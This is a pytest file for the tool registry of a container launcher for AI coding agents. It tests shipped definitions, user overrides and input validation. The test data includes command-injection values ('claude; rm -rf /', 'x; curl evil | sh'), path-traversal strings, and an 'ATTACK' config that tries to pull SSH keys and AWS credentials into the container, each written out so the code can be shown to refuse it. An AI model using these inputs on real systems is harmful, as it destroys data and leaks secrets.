"""The tool registry: shipped TOML definitions, user tables over them, strict checks."""

from __future__ import annotations

import json

import pytest

from coi_common import config, tools
from coi_common.errors import BadInput, ConfigError, NotFound
from coi_host import config_show


def rejection(user_tools, source="config.toml", **kwargs) -> str:
    """The one-line message load_registry refuses `user_tools` with."""
    with pytest.raises(BadInput) as caught:
        tools.load_registry(user_tools, source, **kwargs)
    text = caught.value.one_line()
    assert "\n" not in text
    return text


# --- shipped definitions ----------------------------------------------------


def test_registry_loads_both_shipped_tools():
    registry = tools.load_registry()
    assert {"claude", "dummy"} <= set(registry)
    assert tools.DEFAULT_TOOL in registry


def test_claude_definition_matches_claude_code():
    claude = tools.load_registry()["claude"]
    assert claude.binary == "claude"
    assert claude.autonomous_args == ("--dangerously-skip-permissions",)
    assert claude.resume_args == ("--continue",)
    assert claude.state_dirs == (".claude",)
    assert claude.state_files == (".claude.json",)
    assert claude.credential_files == (".claude/.credentials.json", ".claude.json")
    assert claude.settings_file == ".claude/settings.json"
    assert claude.inject_credentials is True
    assert claude.install == tools.Install("npm", "@anthropic-ai/claude-code")
    assert claude.source.endswith("claude.toml")


def test_dummy_definition_keeps_credentials_off_and_installs_nothing():
    dummy = tools.load_registry()["dummy"]
    assert dummy.binary == "dummy"
    assert dummy.state_dirs == (".dummy",)
    assert dummy.inject_credentials is False
    assert dummy.install.method == "none"


def test_dummy_script_ships_next_to_the_definitions():
    script = tools.TOOLS_DIR / "dummy"
    assert script.is_file()
    assert script.read_text().startswith("#!/bin/bash\n")


def test_container_user_constants():
    assert (tools.HOME, tools.TOOL_USER, tools.TOOL_UID) == ("/home/code", "code", 1000)


# --- command composition ----------------------------------------------------


def test_command_without_resume_is_binary_and_autonomous_args():
    claude = tools.load_registry()["claude"]
    assert claude.command(resume=False) == ["claude", "--dangerously-skip-permissions"]


def test_command_with_resume_appends_resume_args():
    claude = tools.load_registry()["claude"]
    assert claude.command(resume=True) == ["claude", "--dangerously-skip-permissions",
                                           "--continue"]


def test_command_of_a_tool_without_flags_is_just_the_binary():
    tool = tools.Tool(name="bare", binary="bare")
    assert tool.command(resume=True) == ["bare"]


def test_command_returns_a_fresh_list_each_time():
    claude = tools.load_registry()["claude"]
    claude.command().append("--oops")
    assert claude.command() == ["claude", "--dangerously-skip-permissions"]


def test_session_paths_are_absolute_under_home():
    claude = tools.load_registry()["claude"]
    assert claude.session_paths() == ("/home/code/.claude", "/home/code/.claude.json")


def test_to_dict_is_json_ready():
    data = json.loads(json.dumps(tools.load_registry()["claude"].to_dict()))
    assert data["install"] == {"method": "npm", "package": "@anthropic-ai/claude-code"}
    assert data["state_dirs"] == [".claude"]


def test_tool_is_frozen():
    claude = tools.load_registry()["claude"]
    with pytest.raises(AttributeError):
        claude.binary = "sh"
    with pytest.raises(TypeError):
        claude.env["X"] = "1"


# --- user tables ------------------------------------------------------------


def test_user_table_adds_a_new_tool_without_code():
    # Named so that no shipped definition is laid under it (aider ships now).
    registry = tools.load_registry({"my-aider": {
        "description": "Aider",
        "binary": "aider",
        "autonomous_args": ["--yes-always"],
        "state_dirs": [".aider"],
        "install": {"method": "pip", "package": "aider-chat"},
    }}, "/home/u/.config/coi/config.toml")
    aider = tools.get_tool("my-aider", registry)
    assert aider.command(resume=True) == ["aider", "--yes-always"]
    assert aider.install == tools.Install("pip", "aider-chat")
    assert aider.source == "/home/u/.config/coi/config.toml"
    assert "claude" in registry


def test_user_table_overrides_one_field_of_claude_and_keeps_the_rest():
    shipped = tools.load_registry()["claude"]
    claude = tools.load_registry({"claude": {"binary": "/opt/claude/bin/claude"}})["claude"]
    assert claude.binary == "/opt/claude/bin/claude"
    assert claude.command() == ["/opt/claude/bin/claude", "--dangerously-skip-permissions"]
    assert claude.state_dirs == shipped.state_dirs
    assert claude.install == shipped.install
    assert claude.source.endswith("claude.toml + config")


def test_user_override_replaces_a_whole_list_and_table():
    claude = tools.load_registry({"claude": {
        "autonomous_args": [], "install": {"method": "none"}}})["claude"]
    assert claude.command(resume=False) == ["claude"]
    assert claude.install == tools.Install("none")


def test_empty_settings_file_switches_the_merge_off():
    claude = tools.load_registry({"claude": {"settings_file": ""}})["claude"]
    assert claude.settings_file is None


def test_a_user_table_with_only_defaults_needs_just_a_binary():
    tool = tools.load_registry({"mini": {"binary": "mini"}})["mini"]
    assert tool == tools.Tool(name="mini", binary="mini", source="config")


# --- rejections -------------------------------------------------------------


def test_unknown_field_names_tool_field_and_source():
    text = rejection({"claude": {"binry": "claude"}}, "/etc/coi/config.toml")
    assert "'claude'" in text
    assert "'binry'" in text
    assert "/etc/coi/config.toml" in text


def test_per_tool_source_labels_point_at_the_right_file():
    sources = {"tool-a": "/etc/coi/config.toml", "tool-b": "./.coi.toml"}
    registry = tools.load_registry({"tool-a": {"binary": "a"}, "tool-b": {"binary": "b"}},
                                   sources)
    assert registry["tool-b"].source == "./.coi.toml"
    text = rejection({"tool-a": {"binary": "a"}, "tool-b": {"bogus": 1}}, sources)
    assert "in ./.coi.toml" in text
    assert "/etc/coi/config.toml" not in text


def test_unknown_field_in_a_shipped_file_names_that_file(tmp_path):
    (tmp_path / "odd.toml").write_text('binary = "odd"\ncolour = "red"\n')
    text = rejection(None, shipped_dir=tmp_path)
    assert "'odd'" in text
    assert "'colour'" in text
    assert str(tmp_path / "odd.toml") in text


def test_bad_field_from_user_names_config_not_the_shipped_file():
    text = rejection({"claude": {"resume_args": "--continue"}}, "my.toml")
    assert "in my.toml" in text
    assert "claude.toml" not in text


@pytest.mark.parametrize(("field", "value"), [
    ("binary", 42),
    ("binary", ""),
    ("binary", "-rf"),
    ("binary", "claude; rm -rf /"),
    ("description", ["x"]),
    ("description", "two\nlines"),
    ("autonomous_args", "--yes"),
    ("autonomous_args", ["--yes", 1]),
    ("resume_args", {"a": "b"}),
    ("version_args", ["a\0b"]),
    ("state_dirs", ".claude"),
    ("state_files", [True]),
    ("credential_files", 3),
    ("settings_file", [".claude/settings.json"]),
    ("inject_credentials", "yes"),
    ("inject_credentials", 1),
    ("env", ["A=1"]),
    ("env", {"A": 1}),
    ("env", {"BAD NAME": "1"}),
    ("env", {"-x": "1"}),
    ("install", "npm"),
    ("name", 7),
], ids=lambda v: repr(v)[:30])
def test_bad_field_type_is_refused_naming_tool_and_field(field, value):
    text = rejection({"claude": {field: value}})
    assert "'claude'" in text
    assert f"'{field}'" in text


@pytest.mark.parametrize("field", ["state_dirs", "state_files", "credential_files"])
@pytest.mark.parametrize("path", [
    "/etc", "/home/code/.claude", "~/.claude", "..", "../x", "a/../../x", "a/..", ".",
    "a//b", "", "a\0b", "a\nb",
], ids=repr)
def test_home_paths_that_could_leave_home_are_refused(field, path):
    text = rejection({"claude": {field: [path]}})
    assert "'claude'" in text
    assert f"'{field}'" in text


@pytest.mark.parametrize("path", ["/etc/passwd", "../x", "~/.claude/settings.json"])
def test_settings_file_must_stay_in_home(path):
    text = rejection({"claude": {"settings_file": path}})
    assert "'settings_file'" in text


@pytest.mark.parametrize("path", [".aider", ".config/aider", ".local/share/x.y/z"])
def test_nested_relative_home_paths_are_accepted(path):
    tool = tools.load_registry({"x": {"binary": "x", "state_dirs": [path]}})["x"]
    assert tool.state_dirs == (path,)


@pytest.mark.parametrize(("install", "complaint"), [
    ({"method": "apt", "package": "x"}, "method 'apt'"),
    ({"package": "x"}, "method None"),
    ({"method": "npm"}, "needs a package"),
    ({"method": "pip", "package": "x; curl evil | sh"}, "needs a package"),
    ({"method": "npm", "package": "-g"}, "needs a package"),
    ({"method": "script"}, "needs a non-empty script"),
    ({"method": "script", "script": "   "}, "needs a non-empty script"),
    ({"method": "none", "package": "x"}, "package applies only"),
    ({"method": "npm", "package": "x", "script": "echo"}, "script applies only"),
    ({"method": "npm", "package": "x", "version": "1"}, "unknown key 'version'"),
])
def test_bad_install_table_is_refused_with_the_reason(install, complaint):
    text = rejection({"claude": {"install": install}})
    assert "'install'" in text
    assert complaint in text


@pytest.mark.parametrize("install", [
    {"method": "npm", "package": "@anthropic-ai/claude-code@1.0.0"},
    {"method": "pip", "package": "aider-chat>=0.80"},
    {"method": "script", "script": "curl -fsSL https://example.invalid/install.sh | sh"},
    {"method": "none"},
])
def test_good_install_tables_are_accepted(install):
    tool = tools.load_registry({"x": {"binary": "x", "install": install}})["x"]
    assert tool.install.method == install["method"]


def test_missing_binary_is_refused():
    text = rejection({"newtool": {"description": "no binary"}})
    assert "'newtool'" in text
    assert "missing field 'binary'" in text


def test_name_field_must_match_the_table_name():
    text = rejection({"aider": {"name": "other", "binary": "aider"}})
    assert "'name'" in text
    assert "'other'" in text


def test_injecting_credentials_needs_credential_files():
    text = rejection({"claude": {"credential_files": []}})
    assert "'inject_credentials'" in text


def test_dummy_may_turn_credentials_on_because_it_lists_a_file():
    dummy = tools.load_registry({"dummy": {"inject_credentials": True}})["dummy"]
    assert dummy.inject_credentials is True


@pytest.mark.parametrize("name", ["../x", "-rf", "a/b", "Claude", "", "x y", "caf\u00e9"])
def test_hostile_user_tool_names_are_refused_naming_the_source(name):
    text = rejection({name: {"binary": "x"}}, "my.toml")
    assert text.startswith("my.toml: tool name")


def test_hostile_shipped_file_name_is_refused(tmp_path):
    (tmp_path / "Bad Name.toml").write_text('binary = "x"\n')
    assert "tool name" in rejection(None, shipped_dir=tmp_path)


def test_user_tool_that_is_not_a_table_is_refused():
    text = rejection({"aider": "aider"}, "my.toml")
    assert "'aider'" in text
    assert "must be a table" in text


def test_tools_section_that_is_not_a_table_is_refused():
    assert "must be a table" in rejection(["claude"], "my.toml")


def test_invalid_toml_in_a_shipped_file_names_the_file(tmp_path):
    (tmp_path / "broken.toml").write_text("binary = \n")
    text = rejection(None, shipped_dir=tmp_path)
    assert str(tmp_path / "broken.toml") in text
    assert "not valid TOML" in text


# --- credential files that point into secrets --------------------------------------------


WORKSPACE_FILE = "/ws/.coi.toml"
ATTACK = {"claude": {"credential_files": [".ssh/id_ed25519", ".aws/credentials"]}}


@pytest.fixture
def host_home(tmp_path):
    """A host home holding an SSH key, AWS credentials and a Claude login."""
    home = tmp_path / "home"
    for rel in (".ssh/id_ed25519", ".aws/credentials", ".claude/.credentials.json"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text("secret\n")
    return home


def test_a_workspace_file_cannot_name_ssh_keys_as_credential_files(host_home):
    text = rejection(ATTACK, WORKSPACE_FILE, home=str(host_home))
    assert text.startswith(f"{WORKSPACE_FILE}: tools.claude.credential_files '{host_home}/")
    assert f"lies in {host_home / '.ssh'}, which holds secrets" in text
    assert "only a tool table in your own config file may name one there" in text


def test_a_credential_file_linked_into_ssh_is_resolved_and_refused(host_home):
    (host_home / ".claude" / "token").symlink_to(host_home / ".ssh" / "id_ed25519")
    text = rejection({"claude": {"credential_files": [".claude/token"]}}, WORKSPACE_FILE,
                     home=str(host_home))
    assert f"(it resolves to {host_home / '.ssh' / 'id_ed25519'})" in text


def test_the_users_own_config_may_name_any_credential_file(host_home):
    user_file = str(host_home / ".config" / "coi" / "config.toml")
    claude = tools.load_registry(ATTACK, user_file, vouched=[user_file],
                                 home=str(host_home))["claude"]
    assert claude.credential_files == (".ssh/id_ed25519", ".aws/credentials")


def test_the_shipped_credential_files_are_taken_as_given_even_through_a_link(host_home):
    (host_home / ".claude" / ".credentials.json").unlink()
    (host_home / ".claude" / ".credentials.json").symlink_to(host_home / ".aws" / "credentials")
    registry = tools.load_registry({"claude": {"binary": "claude2"}}, WORKSPACE_FILE,
                                   home=str(host_home))
    assert registry["claude"].credential_files == (".claude/.credentials.json", ".claude.json")


def test_a_workspace_file_may_name_credential_files_outside_the_secret_stores(host_home):
    tool = tools.load_registry({"claude": {"credential_files": [".claude/.credentials.json"]}},
                               WORKSPACE_FILE, home=str(host_home))["claude"]
    assert tool.credential_files == (".claude/.credentials.json",)


def trusted_workspace(coi_env, tmp_path, text: str) -> str:
    """A workspace whose .coi.toml holds `text`, trusted as `coi trust` does."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / ".coi.toml").write_text(text)
    path, sha256 = config.workspace_file(str(workspace))
    config_show.pin(str(coi_env.home / ".coi"), path, sha256)
    return str(workspace)


ATTACK_TOML = '[tools.claude]\ncredential_files = [".ssh/id_ed25519", ".aws/credentials"]\n'


def test_even_a_trusted_workspace_file_cannot_send_ssh_keys_into_the_container(
        coi_env, tmp_path):
    workspace = trusted_workspace(coi_env, tmp_path, ATTACK_TOML)
    settings = config.load(workspace)
    assert settings.source("tools.claude").endswith(".coi.toml")  # trusted, so it applied
    with pytest.raises(BadInput) as refused:
        tools.registry_from_config(settings)
    text = refused.value.one_line()
    assert text.startswith(f"{workspace}/.coi.toml: tools.claude.credential_files '")
    assert f"lies in {coi_env.home / '.ssh'}" in text


@pytest.mark.parametrize("which", ["user", "system"])
def test_the_same_table_in_the_user_or_system_config_is_honoured(coi_env, which):
    target = coi_env.config_home / "coi" / "config.toml" if which == "user" \
        else coi_env.system_config
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(ATTACK_TOML)
    claude = tools.registry_from_config(config.load(None))["claude"]
    assert claude.credential_files == (".ssh/id_ed25519", ".aws/credentials")


# --- lookup -----------------------------------------------------------------


def test_get_tool_returns_the_named_tool():
    registry = tools.load_registry()
    assert tools.get_tool("dummy", registry) is registry["dummy"]


def test_get_tool_unknown_is_not_found_listing_known_names():
    with pytest.raises(NotFound) as caught:
        tools.get_tool("opencode", tools.load_registry())
    text = caught.value.one_line()
    assert "'opencode'" in text
    assert "aider, claude, codex, dummy, gemini" in text


def test_get_tool_refuses_hostile_names_as_bad_input():
    with pytest.raises(BadInput):
        tools.get_tool("../claude", tools.load_registry())


def test_tool_binary_replaces_the_program_of_the_chosen_tool_only():
    settings = config.load(None, env={"COI_TOOL_BINARY": "/opt/claude/bin/claude",
                                      "COI_SYSTEM_CONFIG": "/nonexistent", "HOME": "/nonexistent"})
    registry = tools.registry_from_config(settings)
    assert registry["claude"].command()[0] == "/opt/claude/bin/claude"
    assert registry["aider"].command()[0] == "aider"


def test_a_bad_tool_binary_is_one_line_naming_the_key():
    settings = config.load(None, env={"COI_TOOL_BINARY": "rm -rf /",
                                      "COI_SYSTEM_CONFIG": "/nonexistent", "HOME": "/nonexistent"})
    with pytest.raises(BadInput) as refused:
        tools.registry_from_config(settings)
    assert "tool.binary" in refused.value.one_line()


def test_claude_uid_is_accepted_only_as_the_uid_of_code():
    env = {"COI_SYSTEM_CONFIG": "/nonexistent", "HOME": "/nonexistent"}
    assert config.load(None, env={**env, "COI_INCUS_CLAUDE_UID": "1000"}).get(
        "incus.claude_uid") == 1000
    with pytest.raises(ConfigError):
        config.load(None, env={**env, "COI_INCUS_CLAUDE_UID": "0"})
